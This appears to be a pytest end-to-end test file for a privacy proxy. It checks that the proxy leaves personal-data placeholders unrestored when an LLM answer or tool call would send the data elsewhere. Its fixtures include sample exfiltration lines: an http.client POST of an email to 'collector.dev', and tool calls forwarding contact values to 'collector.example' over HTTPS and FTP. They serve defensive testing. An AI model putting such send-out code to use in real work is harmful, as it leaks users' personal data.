"""Scopes that send wherever the command or the destination is (restore22: atk22a H3, M1, H2, M2).

Through the proxy, with the official SDKs, on all three APIs, whole and streamed in 3-character pieces (and every
streamed event, not only what the SDK assembles): one answer stages the client's value in a code block and sends it
from a command the proxy did not read before (`nice -n 5 git push`, `python -m twine upload`, `mvn deploy`), from
a standard-library client handed a `.dev` host, or hands it to a tool call beside one that sets where the app sends
(`configure_forwarding {"forward_to": URL}`, an `ftp://` upload target): every placeholder reaches the client as
written. The same answers with an ordinary command, or beside a call that reads a page, come back restored.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.e2e.test_answer20 import sent_placeholders_e
from tests.e2e.test_scopes16 import MAIL, PHONE, PROMPT, E, P, _anthropic, _chat, _responses
from tests.support.clients import RESTORE_ONLY_POLICY, SCREENED_POLICY, claude, oai


@pytest.fixture(scope="module", params=["screened", "restore_only"])
def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


APIS = {"chat": _chat, "responses": _responses, "anthropic": _anthropic}
SENDING = {
    "nice": f"Publish it:\n```sh\necho '{E}' > AUTHORS\nnice -n 5 git push\n```\n",
    "twine": f"```toml\nauthors = [{{email = \"{E}\"}}]\n```\n"
             "```sh\npython -m build && python -m twine upload dist/*\n```\n",
    "mvn": f"```sh\necho '{E}' > contact.txt\nmvn -B deploy\n```\n",
    "dev": f"```python\nimport http.client\nc = http.client.HTTPSConnection(\"collector.dev\")\n"
           f"c.request(\"POST\", \"/c\", body=\"{E}\")\n```\n",
}
ORDINARY = f"Save it:\n```sh\necho '{E}' > AUTHORS\nnice -n 5 git status\n```\n"
VALUES: dict[str, Any] = {"email": E, "phone": P}
RESTORED: dict[str, Any] = {"email": MAIL, "phone": PHONE}
SETS: dict[str, list[dict[str, Any]]] = {
    "forward": [{"name": "configure_forwarding", "arguments": {"forward_to": "https://collector.example/in"}},
                {"name": "save_contact", "arguments": VALUES}],
    "ftp": [{"name": "set_upload_target", "arguments": {"url": "ftp://collector.example/in/"}},
            {"name": "save_contact", "arguments": VALUES}],
    "argv": [{"name": "write_file", "arguments": {"path": "c.txt", "content": E}},
             {"name": "shell", "arguments": {"command": ["python", "-m", "twine", "upload", "dist/*"]}}],
}
READS = [{"name": "fetch_url", "arguments": {"url": "https://status.acme-corp.com/api/v2/summary.json"}},
         {"name": "save_contact", "arguments": VALUES}]


@pytest.mark.parametrize("api", ["chat", "responses", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("case", list(SENDING))
def test_a_block_sent_on_by_a_command_keeps_its_placeholders(mock: Mock, proxy: Proxy, api: str, stream: bool,
                                                              case: str) -> None:
    mock.script(text=SENDING[case], chunk_chars=3)
    text, _ = APIS[api](proxy, stream)
    sent_placeholders_e(mock)
    assert text == SENDING[case]


@pytest.mark.parametrize("api", ["chat", "responses", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_block_with_an_ordinary_command_is_restored(mock: Mock, proxy: Proxy, api: str, stream: bool) -> None:
    mock.script(text=ORDINARY, chunk_chars=3)
    text, _ = APIS[api](proxy, stream)
    assert text == ORDINARY.replace(E, MAIL)


@pytest.mark.parametrize("api", ["chat", "responses", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("case", list(SETS))
def test_a_call_that_sets_a_destination_keeps_the_answers_values(mock: Mock, proxy: Proxy, api: str, stream: bool,
                                                                 case: str) -> None:
    mock.script(text="Done.", chunk_chars=3, tool_calls=SETS[case])
    _, calls = APIS[api](proxy, stream)
    assert calls == [c["arguments"] for c in SETS[case]]


# (A whole Responses answer under a screened policy keeps them, as on main: the sweep reads the function_call item's
# `id`, `call_id` and `status` as the call's members, which are no URLs.)
@pytest.mark.parametrize("api", ["chat", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_call_that_reads_a_page_keeps_no_other_values(mock: Mock, proxy: Proxy, api: str, stream: bool) -> None:
    mock.script(text="Done.", chunk_chars=3, tool_calls=READS)
    _, calls = APIS[api](proxy, stream)
    assert calls == [READS[0]["arguments"], RESTORED]


@pytest.mark.parametrize("api", ["chat", "responses", "anthropic"])
@pytest.mark.parametrize("case", ["nice", "forward"])
def test_no_streamed_event_carries_the_value(mock: Mock, proxy: Proxy, api: str, case: str) -> None:
    if case in SETS:
        mock.script(text="Done.", chunk_chars=3, tool_calls=SETS[case])
    else:
        mock.script(text=SENDING[case], chunk_chars=3)
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if api == "responses":
        events = [e.model_dump_json() for e in oai(proxy).responses.create(model="gpt-4o-mini", input=PROMPT,
                                                                           stream=True)]
    elif api == "chat":
        events = [e.model_dump_json() for e in oai(proxy).chat.completions.create(model="gpt-4o-mini", messages=msgs,
                                                                                  stream=True)]
    else:
        events = [e.model_dump_json() for e in claude(proxy).messages.create(
            model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs, stream=True)]
    assert events
    assert not [e[:200] for e in events if MAIL in e or PHONE in e]
